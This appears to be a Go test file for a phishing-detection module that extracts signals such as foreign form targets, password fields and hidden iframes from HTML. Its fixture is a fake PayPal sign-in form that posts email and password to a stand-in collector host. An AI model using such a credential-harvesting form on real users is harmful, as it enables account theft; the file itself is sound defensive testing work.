package analysis

import (
	"strings"
	"testing"
)

func TestExtractSignals(t *testing.T) {
	html := `<html><head><title>Sign in to PayPal</title></head><body>
		<form action="https://evil-collector.ru/steal">
			<input type="text" name="email">
			<input type="password" name="pass">
		</form>
		<form action="/local-search"><input type="text"></form>
		<iframe src="https://tracker.example" style="display: none"></iframe>
	</body></html>`

	sig := ExtractSignals(html, "paypal.com")

	if sig.Title != "Sign in to PayPal" {
		t.Errorf("Title = %q", sig.Title)
	}
	if sig.Forms != 2 {
		t.Errorf("Forms = %d, want 2", sig.Forms)
	}
	if sig.PasswordInputs != 1 {
		t.Errorf("PasswordInputs = %d, want 1", sig.PasswordInputs)
	}
	if len(sig.ForeignActionHosts) != 1 || sig.ForeignActionHosts[0] != "evil-collector.ru" {
		t.Errorf("ForeignActionHosts = %v", sig.ForeignActionHosts)
	}
	if sig.HiddenIframes != 1 {
		t.Errorf("HiddenIframes = %d, want 1", sig.HiddenIframes)
	}
	if !sig.CredentialExfiltration() {
		t.Error("CredentialExfiltration() = false, want true")
	}
}

func TestExtractSignalsSameRegistrableDomain(t *testing.T) {
	html := `<form action="https://auth.paypal.com/login"><input type="password"></form>`
	sig := ExtractSignals(html, "www.paypal.com")

	if len(sig.ForeignActionHosts) != 0 {
		t.Errorf("ForeignActionHosts = %v, want none for a sibling subdomain", sig.ForeignActionHosts)
	}
	if sig.CredentialExfiltration() {
		t.Error("CredentialExfiltration() = true, want false")
	}
}

func TestExtractSignalsEmptyHTML(t *testing.T) {
	sig := ExtractSignals("   ", "example.com")
	if sig.Forms != 0 || sig.PasswordInputs != 0 || sig.Title != "" {
		t.Errorf("expected zero signals, got %+v", sig)
	}
}

func TestPromptContext(t *testing.T) {
	sig := PageSignals{
		Title:              "Account Verification",
		Forms:              1,
		PasswordInputs:     2,
		ForeignActionHosts: []string{"collector.example"},
	}
	out := sig.PromptContext()
	for _, want := range []string{"Account Verification", "password inputs: 2", "collector.example"} {
		if !strings.Contains(out, want) {
			t.Errorf("PromptContext missing %q:\n%s", want, out)
		}
	}
}
